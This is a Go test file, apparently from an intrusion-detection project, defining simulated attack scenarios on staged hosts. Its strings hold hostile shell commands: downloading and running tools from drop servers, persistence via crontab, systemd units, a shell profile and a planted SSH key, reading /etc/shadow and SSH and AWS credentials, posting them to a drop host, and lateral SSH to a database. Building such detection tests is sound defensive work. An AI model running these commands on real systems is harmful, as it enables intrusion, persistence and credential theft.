package shapes

import (
	"context"
	"fmt"
	"time"

	"baize/test/intrusions/stage"
)

// others differ in how the intruder comes in, stays, or goes on.
var others = []Shape{
	{Name: "cron", About: "a crontab runs the tool three hours later", Options: stage.Options{Hosts: []stage.HostOptions{{Name: stage.Web, Address: stage.WebAddress, Service: true, Scheduler: true}}}, Play: byCron},
	{Name: "unit", About: "a unit runs the tool two hours later", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: byUnit},
	{Name: "start-file", About: "a start file of a shell runs the tool when the administrator logs in", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: byStartFile},
	{Name: "planted-key", About: "a key is planted, and used to come back over ssh", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: byKey},
	{Name: "ssh", About: "a stolen key: the tool comes through the session's input, passwords and keys are read", Play: bySSH},
	{Name: "collector", About: "a script reads credentials and sends them away", Options: stage.Options{Hosts: []stage.HostOptions{careless()}}, Play: collector},
	{Name: "lateral", About: "a key of the service opens the database host, where the tool runs as well", Options: stage.Options{Hosts: []stage.HostOptions{careless(), {Name: stage.Database, Address: stage.DatabaseAddress}}}, Play: lateral},
	{
		Name: "container", About: "the service is in a container", Options: stage.Options{Hosts: []stage.HostOptions{{Name: stage.Web, Address: stage.WebAddress, Service: true, Contained: true}}},
		Play: simple(list(drop+" "+stage.C2), list("/dev/shm/kworker"), "curl -s "+get("t")+" -o /dev/shm/kworker; chmod +x /dev/shm/kworker; /dev/shm/kworker"),
	},
	{Name: "rotation", About: "eight deliveries, each under another name, half of them of another tool from other addresses and with another C2", Play: rotation},
	{
		Name: "discovery", About: "a loop of dozens of short commands looks around before the tool is fetched",
		Play: simple(list(drop+" "+stage.C2), list("/tmp/.n"),
			"for n in $(seq 12); do id; uname -a; ls / > /dev/null; ps > /dev/null; cat /etc/passwd > /dev/null; done; wget -q "+get("t")+" -O /tmp/.n; chmod +x /tmp/.n; /tmp/.n"),
	},
	{Name: "two-intruders", About: "two intruders in one service at the same time, with tools, names and addresses of their own", Play: twoIntruders},
}

func byCron(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, "wget -q "+get("t")+" -O /var/tmp/.upd; chmod 755 /var/tmp/.upd; echo '* * * * * /var/tmp/.upd' | crontab -")(ctx, s)
	if err != nil {
		return err
	}
	i.Brought("/var/tmp/.upd")
	i.Persists("/var/spool/cron/crontabs/www-data")
	i.Called(drop, stage.C2)
	if err := s.Advance(ctx, 3*time.Hour); err != nil {
		return err
	}
	return i.Job(ctx, "cron", "/var/tmp/.upd")
}

func byUnit(ctx context.Context, s *stage.Stage) error {
	const unit = "/etc/systemd/system/dbus-helper.service"
	i, err := web(stage.Attacker, "mkdir -p /opt/.dbus; curl -s "+get("t")+" -o /opt/.dbus/helper; chmod 755 /opt/.dbus/helper; printf '[Service]\\nExecStart=/opt/.dbus/helper\\n' > "+unit)(ctx, s)
	if err != nil {
		return err
	}
	i.Brought("/opt/.dbus/helper")
	i.Persists(unit)
	i.Called(drop, stage.C2)
	if err := s.Advance(ctx, 2*time.Hour); err != nil {
		return err
	}
	return i.Unit(ctx, unit)
}

func byStartFile(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, "curl -s "+get("t")+" -o /usr/local/sbin/lsd; chmod 755 /usr/local/sbin/lsd; echo '/usr/local/sbin/lsd > /dev/null 2>&1' >> /root/.profile")(ctx, s)
	if err != nil {
		return err
	}
	i.Brought("/usr/local/sbin/lsd")
	i.Persists("/root/.profile")
	i.Called(drop, stage.C2)
	return i.Victim(ctx, "bash -lc 'id; exit 0'", "/usr/local/sbin/lsd")
}

func byKey(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, "mkdir -p /root/.ssh; echo '"+s.Kit().Public("planted")+"' >> /root/.ssh/authorized_keys")(ctx, s)
	if err != nil {
		return err
	}
	i.Persists("/root/.ssh/authorized_keys")
	if err := s.Advance(ctx, time.Hour); err != nil {
		return err
	}
	if err := i.SSH(ctx, "planted", "wget -q "+get("t")+" -O /dev/shm/.k; chmod 700 /dev/shm/.k; /dev/shm/.k", ""); err != nil {
		return err
	}
	i.Brought("/dev/shm/.k")
	i.Called(drop, stage.C2)
	return nil
}

func bySSH(ctx context.Context, s *stage.Stage) error {
	i := s.Intruder(s.Web, stage.Attacker2)
	tool, err := s.Kit().Implant("t")
	if err != nil {
		return err
	}
	for _, session := range []struct{ command, input string }{
		{"cat > /dev/shm/.i; chmod 755 /dev/shm/.i; cat /etc/shadow > /dev/null; head -n 1 /root/.ssh/id_ed25519 > /dev/null", tool},
		{"/dev/shm/.i", ""},
	} {
		if err := i.SSH(ctx, "stolen", session.command, session.input); err != nil {
			return err
		}
	}
	i.Brought("/dev/shm/.i")
	i.Read("/etc/shadow", "/root/.ssh/id_ed25519")
	i.Called(stage.C2)
	return nil
}

func collector(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, fmt.Sprintf("curl -s %s -o /tmp/.c; chmod +x /tmp/.c; /tmp/.c; "+
		"tar czf /tmp/.loot /etc/shadow /root/.ssh/id_ed25519 /root/.aws/credentials 2> /dev/null; head -c 200000 /dev/urandom >> /tmp/.loot; curl -s --data-binary @/tmp/.loot http://%s/in > /dev/null; rm /tmp/.loot",
		get("s.sh"), stage.Drop2))(ctx, s)
	if err != nil {
		return err
	}
	i.Brought("/tmp/.c", "/tmp/.loot")
	i.Read("/etc/shadow", "/root/.ssh/id_ed25519", "/root/.aws/credentials")
	i.Called(drop, drop2, stage.C2)
	return nil
}

func lateral(ctx context.Context, s *stage.Stage) error {
	i, err := web(stage.Attacker, "curl -s "+get("t")+" -o /dev/shm/.l; chmod +x /dev/shm/.l; /dev/shm/.l")(ctx, s)
	if err != nil {
		return err
	}
	i.Brought("/dev/shm/.l")
	i.Called(drop, stage.C2, database)
	there := s.Intruder(s.Hosts[stage.Database], stage.WebAddress)
	there.Brought("/dev/shm/.m")
	const command = "cat > /dev/shm/.m; chmod +x /dev/shm/.m; /dev/shm/.m; cat /etc/shadow > /dev/null"
	err = there.Through(ctx, func(ctx context.Context) error {
		return i.Inject(ctx, "ssh -i /root/.ssh/id_ed25519 -F /root/.ssh/config root@"+stage.DatabaseAddress+" '"+command+"' < /dev/shm/.l")
	})
	if err != nil {
		return err
	}
	i.Read("/root/.ssh/id_ed25519")
	there.Read("/etc/shadow")
	return nil
}

func rotation(ctx context.Context, s *stage.Stage) error {
	i := s.Intruder(s.Web, stage.Attacker)
	i.Called(drop, drop2, stage.C2, stage.OtherC2)
	for n := range 8 {
		server, tool := stage.Drop, "t"
		if n >= 4 {
			i.From, server, tool = stage.Attacker2, stage.Drop2, "u"
		}
		name := fmt.Sprintf("/dev/shm/databus0000000%dabc", n)
		if err := i.Inject(ctx, fmt.Sprintf("curl -s http://%s/%s -o %s; chmod +x %s; %s", server, tool, name, name, name)); err != nil {
			return err
		}
		i.Brought(name)
	}
	return nil
}

func twoIntruders(ctx context.Context, s *stage.Stage) error {
	first, second := s.Intruder(s.Web, stage.Attacker), s.Intruder(s.Web, stage.Attacker2)
	first.Called(drop, stage.C2)
	second.Called(drop2, stage.OtherC2)
	for _, step := range []struct {
		who     *stage.Intruder
		command string
	}{
		{first, "curl -s " + get("t") + " -o /dev/shm/kworker; chmod +x /dev/shm/kworker"},
		{second, "python3 -c \"import urllib.request as u;u.urlretrieve('http://" + stage.Drop2 + "/u','/var/tmp/.q')\""},
		{first, "id; /dev/shm/kworker"},
		{second, "perl -e 'chmod 0755,\"/var/tmp/.q\"; exec \"/var/tmp/.q\"'"},
	} {
		if err := step.who.Inject(ctx, step.command); err != nil {
			return err
		}
	}
	first.Brought("/dev/shm/kworker")
	second.Brought("/var/tmp/.q")
	return nil
}

// careless runs its web service as root.
func careless() stage.HostOptions {
	return stage.HostOptions{Name: stage.Web, Address: stage.WebAddress, Service: true, Careless: true}
}
